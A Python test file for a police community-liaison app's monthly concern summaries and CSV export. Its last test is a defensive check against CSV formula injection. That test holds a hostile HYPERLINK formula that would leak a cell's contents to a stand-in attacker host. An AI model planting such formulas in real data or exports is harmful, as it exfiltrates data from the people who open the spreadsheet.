"""The monthly documentation: the month's concerns by category, neighbourhood, source and
outcome, and the earlier concerns that progressed during the month."""

from __future__ import annotations

from datetime import UTC, datetime

from liaison.concerns import monthly, routing
from liaison.concerns.models import Concern, ConcernHop, ConcernNote
from liaison.extensions import db
from liaison.tenancy import tenant_context
from tenants import roles

from .helpers import logged_concern

MARCH = datetime(2026, 3, 10, 12, tzinfo=UTC)
FEBRUARY = datetime(2026, 2, 5, 12, tzinfo=UTC)


def _backdate(agency, concern_id, when):
    with tenant_context(agency.id, session=db.session):
        db.session.get(Concern, concern_id).created_at = when
        for hop in db.session.scalars(
            db.select(ConcernHop).where(ConcernHop.concern_id == concern_id)
        ):
            hop.at = when
        db.session.commit()


def _scenario(make_agency, make_user):
    agency = make_agency("month-pd")
    officer = make_user(agency, roles.OFFICER)
    other = make_agency("other-pd")
    other_officer = make_user(other, roles.OFFICER)
    march = [
        logged_concern(agency, officer, category="traffic", neighbourhood="Elm"),
        logged_concern(agency, officer, category="traffic", neighbourhood="Oak", source="meeting"),
        logged_concern(agency, officer, category="noise", neighbourhood="Elm"),
    ]
    earlier = logged_concern(agency, officer, category="drugs", neighbourhood="Pine")
    quiet = logged_concern(agency, officer, category="youth")
    logged_concern(other, other_officer, category="noise")  # another agency's: never counted
    for concern in march:
        _backdate(agency, concern.id, MARCH)
    _backdate(agency, earlier.id, FEBRUARY)
    _backdate(agency, quiet.id, FEBRUARY)
    with tenant_context(agency.id, session=db.session):
        first = db.session.get(Concern, march[0].id)
        routing.move_concern(first, "resolve", officer.id, {roles.OFFICER}, "Spoke to them")
        late = db.session.get(Concern, earlier.id)
        routing.add_note(late, "Followed up", False, officer.id, {roles.OFFICER})
        db.session.flush()
        for hop in db.session.scalars(db.select(ConcernHop).where(ConcernHop.action == "resolve")):
            hop.at = MARCH
        for note in db.session.scalars(db.select(ConcernNote)):
            note.created_at = MARCH
        db.session.commit()
    return agency, earlier


def test_the_months_concerns_are_counted_by_category_neighbourhood_source_and_outcome(
    make_agency, make_user
):
    agency, _ = _scenario(make_agency, make_user)
    with tenant_context(agency.id, session=db.session):
        summary = monthly.monthly_summary(2026, 3)

    assert summary.total == 3
    assert [(c.key, c.count) for c in summary.by_category] == [("traffic", 2), ("noise", 1)]
    assert {c.key: c.count for c in summary.by_neighbourhood} == {"Elm": 2, "Oak": 1}
    assert {c.key: c.count for c in summary.by_source} == {"call": 2, "meeting": 1}
    assert {c.key: c.count for c in summary.by_status} == {"open": 2, "resolved_by_officer": 1}


def test_earlier_concerns_that_progressed_in_the_month_are_listed(make_agency, make_user):
    agency, earlier = _scenario(make_agency, make_user)
    with tenant_context(agency.id, session=db.session):
        summary = monthly.monthly_summary(2026, 3)
        february = monthly.monthly_summary(2026, 2)

    assert [(p.concern_id, p.hops, p.notes) for p in summary.progressed] == [(earlier.id, 0, 1)]
    assert february.total == 2
    assert february.progressed == []


def test_the_csv_and_the_console_page_show_the_same_numbers(make_agency, make_user, client, login):
    agency, _ = _scenario(make_agency, make_user)
    login(make_user(agency, roles.CHIEF))

    page = client.get("/console/month-pd/concerns/monthly?month=2026-03").get_data(as_text=True)
    csv = client.get("/console/month-pd/concerns/monthly.csv?month=2026-03")

    assert "Concerns raised this month: <strong>3</strong>" in page
    assert csv.mimetype == "text/csv"
    body = csv.get_data(as_text=True)
    assert "total,,2026-03,3" in body
    assert "category,traffic,Traffic and speeding,2" in body
    assert "outcome,resolved_by_officer,Resolved by officer,1" in body


def test_a_formula_in_a_citizens_neighbourhood_is_defused_in_every_column_of_the_csv(
    make_agency, make_user, client, login
):
    """Issue 10, F2: the neighbourhood came through unneutralised in the "key" column."""
    import csv
    import io

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    agency = make_agency("inject-pd")
    logged_concern(agency, make_user(agency, roles.OFFICER), neighbourhood=hostile)
    login(make_user(agency, roles.CHIEF))

    body = client.get("/console/inject-pd/concerns/monthly.csv").get_data(as_text=True)

    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + hostile in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
